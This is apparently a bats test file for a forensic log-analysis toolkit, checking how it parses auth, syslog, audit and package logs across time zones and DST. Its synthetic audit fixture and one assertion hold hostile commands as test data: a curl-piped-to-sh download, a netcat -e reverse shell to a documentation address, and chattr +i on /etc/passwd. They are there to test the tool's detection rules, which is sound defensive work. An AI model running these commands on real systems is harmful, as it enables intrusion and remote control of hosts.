#!/usr/bin/env bats
bats_require_minimum_version 1.5.0
#
# The text logs (docs/logs.md): irkit-collect's logs collector copies
# them raw with the time zone; irkit-analyze image parses them on an
# ext4 root made at test time (mkfs.ext4 -d).
#
# Oracles: Python's zoneinfo (the target's zone, the analyst's TZ set to
# another), a Python reading of each line written here, independently of
# the C parser, with plaso's year rule; gzip/xz/bzip2/zstd for the
# compressed rotations; GNU tar for the archive's members.
load helpers

setup() {
	setup_scratch
	cd "$SCRATCH"
	export LC_ALL=C.UTF-8
	R=$SCRATCH/root
	mkdir -p "$R/etc" "$R/usr/bin" "$R/var/log"
	cp /usr/share/zoneinfo/America/New_York "$R/etc/localtime"
	echo America/New_York > "$R/etc/timezone"
	# the analyst is elsewhere: nothing may use this zone
	export TZ=Asia/Tokyo
}

teardown() {
	teardown_scratch
}

# image ROOT DB: ROOT as an ext4 image, loaded into DB (helpers.bash)
image() {
	linux_image "$@"
}

# gen_auth FILE: a traditional auth.log of the target's zone across New
# Year, a spring-forward gap and a fall-back overlap
gen_auth() {
	cat > "$1" <<-'EOF'
	Dec 31 23:59:58 web1 sshd[100]: Failed password for root from 203.0.113.9 port 50001 ssh2
	Jan  1 00:00:01 web1 sshd[100]: Failed password for root from 203.0.113.9 port 50002 ssh2
	Jan  1 00:00:02 web1 sshd[100]: Failed password for invalid user admin from 203.0.113.9 port 50003 ssh2
	Jan  1 00:00:03 web1 sshd[100]: Invalid user admin from 203.0.113.9 port 50004
	Jan  1 00:00:04 web1 sshd[100]: Failed password for root from 203.0.113.9 port 50005 ssh2
	Jan  1 00:00:05 web1 sshd[100]: Failed password for root from 203.0.113.9 port 50006 ssh2
	Jan  1 00:00:09 web1 sshd[100]: Accepted password for root from 203.0.113.9 port 50007 ssh2
	Mar 10 01:59:59 web1 sshd[101]: Accepted publickey for al from 198.51.100.7 port 40000 ssh2: ED25519 SHA256:Zm9vYmFyYmF6cXV4cXV1eHF1dXhxdXV4cXV1eHF1dXg
	Mar 10 02:30:00 web1 sudo:       al : TTY=pts/0 ; PWD=/home/al ; USER=root ; COMMAND=/bin/bash
	Mar 10 03:00:00 web1 su[102]: (to root) al on pts/1
	Nov  3 01:30:00 web1 useradd[103]: new user: name=mallory, UID=1005, GID=1005, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0
	Nov  3 01:10:00 web1 usermod[104]: add 'mallory' to group 'sudo'
	Nov  3 01:40:00 web1 groupadd[105]: group added to /etc/group: name=ops, GID=1006
	Nov  3 02:10:00 web1 passwd[106]: pam_unix(passwd:chauthtok): password changed for mallory
	Dec  1 06:25:01 web1 CRON[107]: (root) CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.daily)
	Jan  4 09:00:00 web1 systemd[1]: Started ssh.service - OpenBSD Secure Shell server.
	Jan  4 09:00:01 web1 systemd[1]: Stopped Daily apt upgrade and clean activities.
	EOF
}

# oracle FILE...: "path|line|utc_us|how|event|user|address|port|run_as|
# command|group" of each line, as this test reads them: plaso's year
# rule from the file's mtime, Python's zoneinfo for the target's zone
# (fold 0, or fold 1 when fold 0 would go back before the line before)
oracle() {
	python3 - "$R" "$@" <<-'PY'
	import calendar, datetime as dt, os, re, sys, zoneinfo
	root = sys.argv[1]
	tz = zoneinfo.ZoneInfo(open(root + "/etc/timezone").read().strip())
	MON = {m: i for i, m in enumerate(calendar.month_abbr) if m}
	trad = re.compile(r"^([A-Z][a-z]{2}) {1,2}(\d{1,2}) (\d\d):(\d\d):(\d\d)(\.\d+)? (\S+) ([^\[: ]+)(?:\[(\d+)\])?: (.*)$")
	iso = re.compile(r"^(\d{4})-(\d\d)-(\d\d)T(\d\d):(\d\d):(\d\d)(\.\d+)?(Z|[+-]\d\d:\d\d)? (\S+) ([^\[: ]+)(?:\[(\d+)\])?: (.*)$")
	def typed(prog, msg):
	    f = dict(event="", user="", address="", port="", run_as="", command="", group="")
	    m = re.match(r"\s*(Accepted|Failed) (\S+) for (invalid user )?(.+?) from (\S+) port (\d+)", msg)
	    if prog == "sshd" and m:
	        f.update(event="ssh_accept" if m[1] == "Accepted" else "ssh_fail", user=m[4], address=m[5], port=m[6])
	    m = re.match(r"Invalid user (.+?) from (\S+) port (\d+)", msg)
	    if prog == "sshd" and m:
	        f.update(event="ssh_invalid_user", user=m[1], address=m[2], port=m[3])
	    m = re.match(r"\s*(\S+) : TTY=(\S+) ; PWD=(\S+) ; USER=(\S+) ; COMMAND=(.*)", msg)
	    if prog == "sudo" and m:
	        f.update(event="sudo", user=m[1], run_as=m[4], command=m[5])
	    m = re.match(r"\(to (\S+)\) (\S+) on (\S+)", msg)
	    if prog == "su" and m:
	        f.update(event="su", user=m[2], run_as=m[1])
	    m = re.match(r"new user: name=([^,]+),", msg)
	    if prog == "useradd" and m:
	        f.update(event="useradd", user=m[1])
	    m = re.match(r"add '([^']+)' to group '([^']+)'", msg)
	    if prog == "usermod" and m:
	        f.update(event="usermod", user=m[1], group=m[2])
	    m = re.match(r"group added to /etc/group: name=([^,]+),", msg)
	    if prog == "groupadd" and m:
	        f.update(event="groupadd", group=m[1])
	    m = re.match(r"pam_unix\(passwd:chauthtok\): password changed for (\S+)", msg)
	    if prog == "passwd" and m:
	        f.update(event="passwd", user=m[1])
	    m = re.match(r"\((\S+)\) CMD \((.*)\)$", msg)
	    if prog == "CRON" and m:
	        f.update(event="cron_cmd", user=m[1], command=m[2])
	    m = re.match(r"(Started|Stopped) ", msg)
	    if prog == "systemd" and m:
	        f.update(event="unit_start" if m[1] == "Started" else "unit_stop")
	    return f
	def local_utc(w, usec, prev):
	    a = int(w.replace(tzinfo=tz, fold=0).timestamp()) * 10**6 + usec
	    b = int(w.replace(tzinfo=tz, fold=1).timestamp()) * 10**6 + usec
	    gap = dt.datetime.fromtimestamp(a // 10**6, tz).replace(tzinfo=None) != w
	    if gap or a == b:
	        return a
	    return b if prev is not None and a < prev else a
	for path in sys.argv[2:]:
	    lines = open(root + path, encoding="utf-8", errors="surrogateescape").read().split("\n")
	    if lines[-1] == "":
	        lines.pop()
	    mt = dt.datetime.fromtimestamp(os.stat(root + path).st_mtime, tz)
	    months = [MON[m[1]] for m in map(trad.match, lines) if m]
	    roll = sum(1 for a, b in zip(months, months[1:]) if b < a)
	    year = (mt.year - (months[-1] > mt.month if months else 0)) - roll
	    last, prev = 0, None
	    for n, l in enumerate(lines, 1):
	        m = trad.match(l)
	        if m:
	            mon = MON[m[1]]
	            if last and mon < last:
	                year += 1
	            last = mon
	            usec = int((m[6] or ".0")[1:].ljust(6, "0")[:6])
	            w = dt.datetime(year, mon, int(m[2]), int(m[3]), int(m[4]), int(m[5]))
	            t, how = local_utc(w, usec, prev), "year-inferred"
	            prog, msg = m[8], m[10]
	        else:
	            m = iso.match(l)
	            assert m, l
	            usec = int((m[7] or ".0")[1:].ljust(6, "0")[:6])
	            w = dt.datetime(*map(int, m.groups()[:6]))
	            if m[8]:
	                off = 0 if m[8] == "Z" else (1 if m[8][0] == "+" else -1) * (int(m[8][1:3]) * 3600 + int(m[8][4:6]) * 60)
	                t, how = (calendar.timegm(w.timetuple()) - off) * 10**6 + usec, "utc"
	            else:
	                t, how = local_utc(w, usec, prev), "local"
	            prog, msg = m[10], m[12]
	        prev = t
	        f = typed(prog, msg)
	        print("|".join([path, str(n), str(t), how] + [f[k] for k in ("event", "user", "address", "port", "run_as", "command", "group")]))
	PY
}

# ours DB: the same fields from the case
ours() {
	sqlite3 "$1" "SELECT path, line, time, ts_how, coalesce(event, ''),
	    coalesce(user, ''), coalesce(address, ''), coalesce(port, ''),
	    coalesce(run_as, ''), coalesce(command, ''),
	    coalesce(group_name, '') FROM log_lines ORDER BY path, line"
}

@test "logs: auth.log across New Year, DST gap and overlap, in the target's zone, typed" {
	gen_auth "$R/var/log/auth.log"
	cat > "$R/var/log/syslog" <<-'EOF'
	2024-03-10T02:15:00.250000 web1 sshd[9]: Accepted password for bo from 192.0.2.1 port 22 ssh2
	2024-11-03T01:30:00 web1 sshd[9]: Failed password for bo from 192.0.2.1 port 23 ssh2
	2024-11-03T01:20:00 web1 sshd[9]: Failed password for bo from 192.0.2.1 port 24 ssh2
	2024-07-01T12:00:00.123456+02:00 web1 CRON[5]: (al) CMD (/usr/local/bin/backup)
	2024-07-01T10:00:01Z web1 systemd[1]: Started cron.service - Regular background program processing daemon.
	EOF
	touch -d "2025-01-05 12:00:00Z" "$R/var/log/auth.log" "$R/var/log/syslog"
	image "$R" "$SCRATCH/c.db"
	oracle /var/log/auth.log /var/log/syslog > want
	ours "$SCRATCH/c.db" > got
	diff want got
	[ "$(wc -l < got)" -eq 22 ]
	# the zone is named on local times, none on UTC ones
	[ "$(sqlite3 c.db "SELECT count(*) FROM log_lines WHERE tz = 'America/New_York'")" -eq 20 ]
	[ "$(sqlite3 c.db "SELECT group_concat(ts_note) FROM log_lines WHERE ts_note IS NOT NULL ORDER BY path, line")" = \
	    "gap,overlap-earlier,overlap-later,overlap-later,gap,overlap-earlier,overlap-later" ]
	# one timeline event a line
	[ "$(sqlite3 c.db "SELECT count(*) FROM events WHERE source = 'LOG' AND record_table = 'log_lines'")" -eq 22 ]
}

@test "logs: the real samples (plaso's test data) read as plaso's grammar says" {
	for f in syslog_ssh.log syslog_cron.log syslog_rsyslog syslog_chromeos; do
		cp "$IRKIT_SRC/tests/data/logs/$f" "$R/var/log/"
	done
	mv "$R/var/log/syslog_ssh.log" "$R/var/log/auth.log"
	mv "$R/var/log/syslog_cron.log" "$R/var/log/cron.log"
	mv "$R/var/log/syslog_rsyslog" "$R/var/log/syslog"
	mv "$R/var/log/syslog_chromeos" "$R/var/log/messages"
	touch -d "2016-12-01 12:00:00Z" "$R"/var/log/*
	image "$R" "$SCRATCH/c.db"
	oracle /var/log/auth.log /var/log/cron.log /var/log/syslog > want
	ours "$SCRATCH/c.db" | grep -v '^/var/log/messages' > got
	diff want got
	grep -q '|ssh_accept|fred|192.0.2.60|59915|' got
	# hostname, program, pid, message of a chromeos line (a severity where
	# the host goes), and its offset honoured
	[ "$(sqlite3 c.db "SELECT hostname, program, pid, time, ts_how FROM log_lines WHERE path = '/var/log/messages' AND line = 1")" = \
	    "INFO|periodic_scheduler|13707|$(python3 -c 'import datetime as d; print(int(d.datetime.fromisoformat("2016-10-25T12:37:23.297265-07:00").timestamp()*10**6))')|utc" ]
	# a continuation line joins the message before
	sqlite3 c.db "SELECT message FROM log_lines WHERE path = '/var/log/messages' AND line = 8" | grep -q 'many syslog parsers'
}

@test "logs: RFC 5424 and traditional samples, a year rollover and Feb 29 of a leap year" {
	cp "$IRKIT_SRC/tests/data/logs/syslog_rsyslog_SyslogProtocol23Format" "$R/var/log/messages"
	cp "$IRKIT_SRC/tests/data/logs/syslog" "$R/var/log/syslog"
	touch -d "2015-12-01 12:00:00Z" "$R"/var/log/*
	image "$R" "$SCRATCH/c.db"
	# 5424: priority, host, app, procid, the message after the SD
	[ "$(sqlite3 c.db "SELECT priority, hostname, program, pid, msgid, message, ts_how FROM log_lines WHERE path = '/var/log/messages' AND line = 1")" = \
	    "15|hostname|log_tag||123| this is debug|utc" ]
	[ "$(sqlite3 c.db "SELECT pid, event, unit FROM log_lines WHERE path = '/var/log/messages' AND line = 8")" = \
	    "1|unit_start|Regular background program processing daemon" ]
	# plaso's sample: three rollovers back from 2015, Feb 29 2012 exists
	[ "$(sqlite3 c.db "SELECT time FROM log_lines WHERE path = '/var/log/syslog' AND message LIKE '%leap year%'")" = \
	    "$(python3 -c 'import datetime as d, zoneinfo as z; print(int(d.datetime(2012,2,29,1,15,43,tzinfo=z.ZoneInfo("America/New_York")).timestamp()*10**6))')" ]
	[ "$(sqlite3 c.db "SELECT strftime('%Y', time / 1000000, 'unixepoch') FROM log_lines WHERE path = '/var/log/syslog' ORDER BY line" | tr '\n' ' ')" = \
	    "2012 2012 2012 2012 2012 2012 2012 2012 2013 2013 2013 2014 2015 2015 2015 2015 " ]
}

@test "logs: rotations plain and compressed are read; a line reached twice is stored once" {
	gen_auth "$SCRATCH/all"
	head -5 "$SCRATCH/all" > "$R/var/log/auth.log.4"
	sed -n 6,8p "$SCRATCH/all" | gzip > "$R/var/log/auth.log.3.gz"
	sed -n 9,11p "$SCRATCH/all" | xz > "$R/var/log/auth.log.2.xz"
	sed -n 12,14p "$SCRATCH/all" | bzip2 > "$R/var/log/auth.log.1.bz2"
	sed -n '15,$p' "$SCRATCH/all" | zstd -q > "$R/var/log/auth.log"
	# the same lines again: a copy of a rotation kept by hand, and the
	# same log under another name
	cp "$R/var/log/auth.log.4" "$R/var/log/auth.log-20250101"
	cp "$R/var/log/auth.log.4" "$R/var/log/secure"
	touch -d "2025-01-05 12:00:00Z" "$R"/var/log/*
	touch -d "2025-01-04 12:00:00Z" "$R/var/log/auth.log-20250101"
	image "$R" "$SCRATCH/c.db"
	[ "$(sqlite3 c.db "SELECT count(*) FROM log_lines")" -eq 17 ]
	[ "$(sqlite3 c.db "SELECT count(*) FROM events WHERE source = 'LOG'")" -eq 17 ]
	[ "$(sqlite3 c.db "SELECT count(DISTINCT path) FROM log_lines")" -eq 5 ]
	# ...which were read: their lines are there already
	[ "$(sqlite3 c.db "SELECT count(*) FROM log_lines WHERE path IN ('/var/log/secure', '/var/log/auth.log-20250101')")" -eq 0 ]
	[ "$(sqlite3 c.db "SELECT count(*) FROM files WHERE path IN ('/var/log/secure', '/var/log/auth.log-20250101')")" -eq 2 ]
	# the years run across the files by each one's own lines and mtime
	[ "$(sqlite3 c.db "SELECT strftime('%Y', time / 1000000, 'unixepoch') FROM log_lines WHERE path = '/var/log/auth.log.4' AND line = 2")" = 2025 ]
	# the same log in a second image of the host, one line longer: one
	# row more in the same case
	mkdir -p "$SCRATCH/r2/etc" "$SCRATCH/r2/usr/bin" "$SCRATCH/r2/var/log"
	cp "$R/etc/localtime" "$R/etc/timezone" "$SCRATCH/r2/etc/"
	{ cat "$R/var/log/auth.log.4"; echo 'Jan  1 00:00:10 web1 sshd[100]: Disconnected from 203.0.113.9 port 50007'; } > "$SCRATCH/r2/var/log/auth.log"
	touch -d "2025-01-05 12:00:00Z" "$SCRATCH/r2/var/log/auth.log"
	mkfs.ext4 -q -F -d "$SCRATCH/r2" "$SCRATCH/r2.raw" 16M
	"$ANALYZE" image -q --no-scan --db "$SCRATCH/c.db" "$SCRATCH/r2.raw" || true
	[ "$(sqlite3 c.db "SELECT count(*) FROM log_lines")" -eq 18 ]
	[ "$(sqlite3 c.db "SELECT count(*) FROM events WHERE source = 'LOG'")" -eq 18 ]
	# two identical lines of one second in one file are two lines
	printf 'Jan  2 03:04:05 h x[1]: same\nJan  2 03:04:05 h x[1]: same\n' > "$R/var/log/kern.log"
	image "$R" "$SCRATCH/d.db"
	[ "$(sqlite3 d.db "SELECT count(*) FROM log_lines WHERE path = '/var/log/kern.log'")" -eq 2 ]
}

@test "logs: hostile: a long line is cut and the rest read, NULs and bad UTF-8 kept, a gzip bomb stopped" {
	{
		printf 'Jan  2 03:04:05 h a[1]: before\n'
		printf 'Jan  2 03:04:06 h a[1]: '
		head -c 3000000 /dev/zero | tr '\0' 'x'
		printf '\nJan  2 03:04:07 h a[1]: after \x00 nul \xff\xfe bad\n'
	} > "$R/var/log/syslog"
	head -c 200000000 /dev/zero | gzip -9 > "$R/var/log/syslog.1.gz"
	image "$R" "$SCRATCH/c.db"
	[ "$(sqlite3 c.db "SELECT line, cut, length(message) FROM log_lines WHERE path = '/var/log/syslog' ORDER BY line" | tr '\n' ' ')" = \
	    "1||6 2|1|65512 3||27 " ]
	# the NUL and the bad bytes survive as escapes (docs/FORMAT.md)
	sqlite3 c.db "SELECT message FROM log_lines WHERE line = 3 AND path = '/var/log/syslog'" | grep -qF 'after \x00 nul \xff\xfe bad'
	sqlite3 c.db "SELECT message FROM log WHERE path = '/var/log/syslog'" | grep -q '1 lines longer than 65536 bytes cut'
	sqlite3 c.db "SELECT message FROM log WHERE path = '/var/log/syslog.1.gz'" | grep -q 'gzip output stopped after'
}

@test "logs: collect copies the logs and the time zone; --logs-max leaves the oldest out and says so" {
	gen_auth "$R/var/log/auth.log"
	gen_auth "$R/var/log/auth.log.1"
	gzip -c "$R/var/log/auth.log" > "$R/var/log/auth.log.2.gz"
	mkdir -p "$R/var/log/apt" "$R/var/log/audit"
	head -c 2000 "$IRKIT_SRC/tests/data/logs/apt_history.log" > "$R/var/log/apt/history.log"
	head -c 2000 "$IRKIT_SRC/tests/data/logs/audit_enriched.log" > "$R/var/log/audit/audit.log"
	echo "not a log" > "$R/var/log/auth.logger"
	touch -d "2025-01-05" "$R/var/log/auth.log"
	touch -d "2025-01-04" "$R/var/log/auth.log.1"
	touch -d "2025-01-03" "$R/var/log/auth.log.2.gz"
	run "$COLLECT" -q -o "$SCRATCH/a.tar.zst" --root "$R" --only logs --logs-max 2k
	[ "$status" -eq 0 ]
	tar --zstd -tf "$SCRATCH/a.tar.zst" | sed 's,^[^/]*/,,' | grep '^files/' | sort > got
	printf '%s\n' files/etc/localtime files/etc/timezone files/var/log/apt/history.log \
	    files/var/log/audit/audit.log files/var/log/auth.log > want
	diff want got
	tar --zstd -xOf "$SCRATCH/a.tar.zst" --wildcards '*/log.jsonl' > log.jsonl
	grep '"/var/log/auth.log.1"' log.jsonl | grep -q 'left out: its log'
	grep '"/var/log/auth.log.2.gz"' log.jsonl | grep -q 'left out: its log'
	# the copy is the file, byte for byte
	tar --zstd -xOf "$SCRATCH/a.tar.zst" --wildcards '*/files/etc/localtime' | cmp - /usr/share/zoneinfo/America/New_York
	# a bad size is a usage error
	run "$COLLECT" -q -o "$SCRATCH/b.tar.zst" --root "$R" --only logs --logs-max 0
	[ "$status" -eq 2 ]
}

@test "logs: no time zone on the target: UTC is taken and the log says so" {
	rm "$R/etc/localtime" "$R/etc/timezone"
	printf 'Jul  2 03:04:05 h a[1]: x\n' > "$R/var/log/syslog"
	touch -d "2024-08-01 00:00:00Z" "$R/var/log/syslog"
	image "$R" "$SCRATCH/c.db"
	[ "$(sqlite3 c.db "SELECT time, tz FROM log_lines")" = "$(python3 -c 'import calendar; print(calendar.timegm((2024,7,2,3,4,5))*10**6)')|UTC (no zone found)" ]
	sqlite3 c.db "SELECT message FROM log" | grep -q 'no time zone file on the target'
}

# gen_audit FILE: an audit log with downloads run by a shell (hex
# encoded), base64, netcat -e, chattr +i, interleaved events, a long
# argument split in pieces, an ENRICHED record and a line of garbage
gen_audit() {
	python3 - "$1" <<-'PY'
	import sys
	def hx(s):
	    return s.encode().hex().upper()
	def ex(serial, t, args, split=None):
	    out = ["type=SYSCALL msg=audit(%s:%d): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=1 ppid=1 pid=%d auid=1000 uid=0 gid=0 euid=0 ses=3 tty=pts0 comm=\"x\" exe=\"/usr/bin/x\" key=(null)" % (t, serial, 500 + serial)]
	    parts = []
	    for i, a in enumerate(args):
	        if split == i:
	            h = hx(a)
	            parts.append("a%d_len=%d" % (i, len(h)))
	            parts += ["a%d[%d]=%s" % (i, k, h[k * 40:(k + 1) * 40]) for k in range((len(h) + 39) // 40)]
	        elif " " in a or '"' in a:
	            parts.append("a%d=%s" % (i, hx(a)))
	        else:
	            parts.append('a%d="%s"' % (i, a))
	    out.append("type=EXECVE msg=audit(%s:%d): argc=%d %s" % (t, serial, len(args), " ".join(parts)))
	    out.append("type=PROCTITLE msg=audit(%s:%d): proctitle=%s" % (t, serial, "00".join(hx(a) for a in args)))
	    return out
	L = []
	L += ex(10, "1700000000.100", ["sh", "-c", "curl -s http://203.0.113.5/x.sh | sh"])
	L += ex(11, "1700000001.200", ["base64", "-d", "/tmp/p.b64"])
	a = ex(12, "1700000002.300", ["nc", "-e", "/bin/sh", "198.51.100.2", "4444"])
	b = ex(13, "1700000002.301", ["chattr", "+i", "/etc/passwd"])
	L += [a[0], b[0], a[1], b[1], a[2], b[2]]
	L.append("type=EOE msg=audit(1700000002.301:13): ")
	L += ex(14, "1700000003.000", ["printf", "x" * 300], split=1)
	L.append("this is not an audit record")
	L.append("type=USER_LOGIN msg=audit(1700000004.500:15): pid=9 uid=0 auid=1000 ses=4 msg='op=login acct=\"al\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=success'\x1dUID=\"root\" AUID=\"al\"")
	open(sys.argv[1], "w").write("\n".join(L) + "\n")
	PY
}

# audit_csv FILE: ausearch's events (no -i): type, UTC date and time,
# serial, result; sorted
audit_csv() {
	TZ=UTC ausearch -if "$1" --format csv 2>/dev/null | tail -n +2 |
		awk -F, '{ print $2 "|" $3 " " $4 "|" $5 "|" $12 }' | sort
}

@test "logs: audit events grouped as ausearch groups them, hex decoded, ENRICHED kept" {
	command -v ausearch >/dev/null || skip "no ausearch"
	mkdir -p "$R/var/log/audit"
	cp "$IRKIT_SRC/tests/data/logs/audit_enriched.log" "$R/var/log/audit/audit.log.1"
	gen_audit "$R/var/log/audit/audit.log"
	image "$R" "$SCRATCH/c.db"
	for f in audit.log audit.log.1; do
		audit_csv "$R/var/log/audit/$f" > want
		sqlite3 c.db "SELECT event_type, strftime('%m/%d/', time / 1000000, 'unixepoch') || substr(strftime('%Y %H:%M:%S', time / 1000000, 'unixepoch'), 3), serial, result FROM audit_events WHERE path = '/var/log/audit/$f'" | sort > got
		diff want got
	done
	# the process titles as ausearch -i decodes them
	TZ=UTC ausearch -if "$R/var/log/audit/audit.log.1" -i 2>/dev/null |
		sed -n 's/^type=PROCTITLE msg=audit(.*:\([0-9]*\)) : proctitle=\(.*\) $/\1|\2/p' | sort > want
	sqlite3 c.db "SELECT serial, proctitle FROM audit_events WHERE proctitle IS NOT NULL AND path = '/var/log/audit/audit.log.1'" | sort > got
	diff want got
	# argv decoded, a split argument joined, interleaved events apart
	[ "$(sqlite3 c.db "SELECT argv FROM audit_events WHERE serial = 10")" = "sh -c curl -s http://203.0.113.5/x.sh | sh" ]
	[ "$(sqlite3 c.db "SELECT argv FROM audit_events WHERE serial = 14")" = "printf $(printf 'x%.0s' $(seq 300))" ]
	[ "$(sqlite3 c.db "SELECT record_types FROM audit_events WHERE serial = 12")" = "SYSCALL,EXECVE,PROCTITLE" ]
	[ "$(sqlite3 c.db "SELECT pid, auid, acct, addr, terminal, result, json_extract(record, '\$.enriched.AUID') FROM audit_events WHERE serial = 15")" = "9|1000|al|203.0.113.5|ssh|success|al" ]
	# SYSCALL's a0..a3 are registers, kept as written
	[ "$(sqlite3 c.db "SELECT json_extract(record, '\$.records[0].fields.a0') FROM audit_events WHERE serial = 10")" = 55d0 ]
	sqlite3 c.db "SELECT message FROM log WHERE path = '/var/log/audit/audit.log'" | grep -q '1 lines that are not audit records skipped'
	# the findings of the registry's rules
	run "$ANALYZE" findings --db "$SCRATCH/c.db"
	echo "$output"
	for t in 'download run by a shell (audit)' 'base64 decoded (audit)' 'netcat with -e, a reverse shell (audit)' 'file made immutable (audit)'; do
		echo "$output" | grep -qF "$t"
	done
	[ "$(echo "$output" | grep -c '(audit)')" -eq 4 ]
	# the same log again (a rotation copied by hand): nothing doubles
	cp "$R/var/log/audit/audit.log" "$R/var/log/audit/audit.log-20231114"
	image "$R" "$SCRATCH/d.db"
	[ "$(sqlite3 d.db "SELECT count(*) FROM audit_events")" -eq "$(sqlite3 c.db "SELECT count(*) FROM audit_events")" ]
}

@test "logs: package logs (dpkg, apt history, yum, dnf) as an independent reading says, local times in the target's zone" {
	mkdir -p "$R/var/log/apt"
	cp "$IRKIT_SRC/tests/data/logs/dpkg.log" "$R/var/log/dpkg.log"
	cp "$IRKIT_SRC/tests/data/logs/apt_history.log" "$R/var/log/apt/history.log"
	printf '\nStart-Date: 2024-11-03  01:30:00\nCommandline: apt install nmap socat\nRequested-By: al (1000)\nInstall: nmap:amd64 (7.93+dfsg1-1), socat:amd64 (1.7.4.4-2, automatic)\nEnd-Date: 2024-11-03  01:30:05\n' >> "$R/var/log/apt/history.log"
	printf '\n2024-03-10 02:30:00 install gcc:amd64 <none> 4:12.2.0-3\n2024-03-10 03:00:00 remove telnet:amd64 0.17+2.4-2 <none>\n' >> "$R/var/log/dpkg.log"
	printf 'Dec 30 16:38:08 Installed: nmap-7.70-5.el8.x86_64\nJan  2 09:00:00 Updated: 2:vim-enhanced-8.0.1763-15.el8.x86_64\nJan  3 10:00:00 Erased: telnet\n' > "$R/var/log/yum.log"
	printf '2023-02-01T10:00:00+0100 SUBDEBUG Installed: gcc-8.5.0-4.el8.x86_64\n2023-02-01T10:00:01+0100 SUBDEBUG Upgrade: curl-7.61.1-25.el8.x86_64\n2023-02-01T10:00:01+0100 SUBDEBUG Upgraded: curl-7.61.1-22.el8.x86_64\n' > "$R/var/log/dnf.rpm.log"
	touch -d "2024-02-01 00:00:00Z" "$R/var/log/yum.log"
	image "$R" "$SCRATCH/c.db"
	python3 - "$R" <<-'PY' | LC_ALL=C sort > want
	import datetime as dt, re, sys, zoneinfo
	root = sys.argv[1]
	tz = zoneinfo.ZoneInfo(open(root + "/etc/timezone").read().strip())
	out = []
	def loc(s):
	    return str(int(dt.datetime.strptime(re.sub(" +", " ", s), "%Y-%m-%d %H:%M:%S").replace(tzinfo=tz).timestamp()) * 10**6)
	for l in open(root + "/var/log/dpkg.log"):
	    f = l.split()
	    if len(f) >= 6 and f[2] in ("install", "upgrade", "remove", "purge"):
	        name, _, arch = f[3].rpartition(":")
	        new = f[5] if f[5] != "<none>" else ""
	        ver = new or f[4]
	        old = f[4] if new and f[4] != "<none>" else ""
	        out.append(["dpkg", f[2], name, arch, ver, old, "", "", "", loc(f[0] + " " + f[1]), "local"])
	cmd = who = start = ""
	for l in open(root + "/var/log/apt/history.log"):
	    l = l.rstrip("\n")
	    k, _, v = l.partition(": ")
	    if k == "Start-Date":
	        cmd = who = ""
	        start = loc(v)
	    elif k == "Commandline":
	        cmd = v
	    elif k == "Requested-By":
	        who = v
	    elif k in ("Install", "Upgrade", "Remove", "Purge", "Downgrade", "Reinstall"):
	        for m in re.finditer(r"([^ ,(]+) \(([^)]*)\)", v):
	            name, _, arch = m[1].rpartition(":")
	            vs = m[2].split(", ")
	            auto = "1" if vs[-1] == "automatic" else ""
	            if auto:
	                vs.pop()
	            out.append(["apt", k.lower(), name, arch, vs[-1], vs[0] if len(vs) == 2 else "", auto, who, cmd, start, "local"])
	yum = [("install", "nmap", "7.70-5.el8", "x86_64", "2023-12-30 16:38:08"),
	       ("upgrade", "vim-enhanced", "8.0.1763-15.el8", "x86_64", "2024-01-02 09:00:00"),
	       ("remove", "telnet", "", "", "2024-01-03 10:00:00")]
	for a, n, v, ar, t in yum:
	    out.append(["yum", a, n, ar, v, "", "", "", "", loc(t), "year-inferred"])
	u = lambda s: str(int(dt.datetime.fromisoformat(s).timestamp()) * 10**6)
	out.append(["dnf", "install", "gcc", "x86_64", "8.5.0-4.el8", "", "", "", "", u("2023-02-01T10:00:00+01:00"), "utc"])
	out.append(["dnf", "upgrade", "curl", "x86_64", "7.61.1-25.el8", "", "", "", "", u("2023-02-01T10:00:01+01:00"), "utc"])
	for o in sorted(out):
	    print("|".join(o))
	PY
	sqlite3 c.db "SELECT source, action, package, coalesce(arch, ''), coalesce(version, ''), coalesce(old_version, ''), coalesce(automatic, ''), coalesce(who, ''), coalesce(command, ''), time, ts_how FROM package_events" | LC_ALL=C sort > got
	diff want got
	[ "$(wc -l < got)" -gt 400 ]
	# the DST gap of the appended dpkg line is said
	[ "$(sqlite3 c.db "SELECT ts_note FROM package_events WHERE package = 'gcc' AND source = 'dpkg'")" = gap ]
	run "$ANALYZE" findings --db "$SCRATCH/c.db"
	echo "$output" | grep -q 'network tool or compiler installed: nmap'
	echo "$output" | grep -q 'network tool or compiler installed: socat'
	echo "$output" | grep -q 'network tool or compiler installed: gcc'
	! echo "$output" | grep -q 'installed: telnet' || false
}

@test "logs: findings: ssh login after failures, nologin account, new account and group, sudo to a shell, a missing rotation" {
	gen_auth "$SCRATCH/all"
	cat > "$R/etc/passwd" <<-'P'
	root:x:0:0:root:/root:/bin/bash
	al:x:1000:1000::/home/al:/usr/sbin/nologin
	P
	head -14 "$SCRATCH/all" > "$R/var/log/auth.log.3"
	sed -n '15,$p' "$SCRATCH/all" > "$R/var/log/auth.log.1"
	printf 'Jan  5 10:00:00 web1 sshd[9]: Failed password for bo from 192.0.2.9 port 1 ssh2\nJan  5 10:30:00 web1 sshd[9]: Accepted password for bo from 192.0.2.9 port 2 ssh2\n' > "$R/var/log/auth.log"
	touch -d "2025-01-05 12:00:00Z" "$R"/var/log/*
	image "$R" "$SCRATCH/c.db"
	run "$ANALYZE" findings --db "$SCRATCH/c.db"
	echo "$output"
	for t in 'ssh login after failures from 203.0.113.9' \
	    'login of an account without a shell: al' \
	    'account created: mallory' 'added to a privileged group: mallory' \
	    'sudo to a shell by al' 'log rotation missing: auth.log.2'; do
		echo "$output" | grep -qF "$t"
	done
	# one failure half an hour before is no burst; root's sudo-less
	# lines are no finding
	! echo "$output" | grep -q 'after failures from 192.0.2.9' || false
	[ "$(echo "$output" | grep -c 'ssh login after failures')" -eq 1 ]
	# the group change and the privileged group are one finding
	[ "$(echo "$output" | grep -c 'mallory')" -eq 2 ]
}

@test "logs: the same logs collected live, found in an image and in a foreign collection give the same rows" {
	gen_auth "$R/var/log/auth.log"
	gen_auth "$SCRATCH/old"
	sed -n 1,8p "$SCRATCH/old" | sed s/web1/web0/ | gzip > "$R/var/log/auth.log.1.gz"
	mkdir -p "$R/var/log/audit" "$R/var/log/apt"
	gen_audit "$R/var/log/audit/audit.log"
	head -c 3000 "$IRKIT_SRC/tests/data/logs/apt_history.log" | sed '$d' > "$R/var/log/apt/history.log"
